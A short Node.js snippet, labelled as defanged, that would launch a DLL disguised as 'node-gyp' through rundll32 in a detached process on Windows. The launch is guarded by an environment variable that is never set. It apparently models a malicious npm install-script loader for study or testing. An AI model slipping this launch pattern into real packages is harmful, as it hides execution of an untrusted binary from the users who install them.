// defanged: the DLL does not exist and the call is guarded
const { spawn } = require('child_process');
const path = require('path');
if (process.platform === 'win32' && process.env.DEFANGED_NEVER_SET) {
  spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'], { detached: true });
}
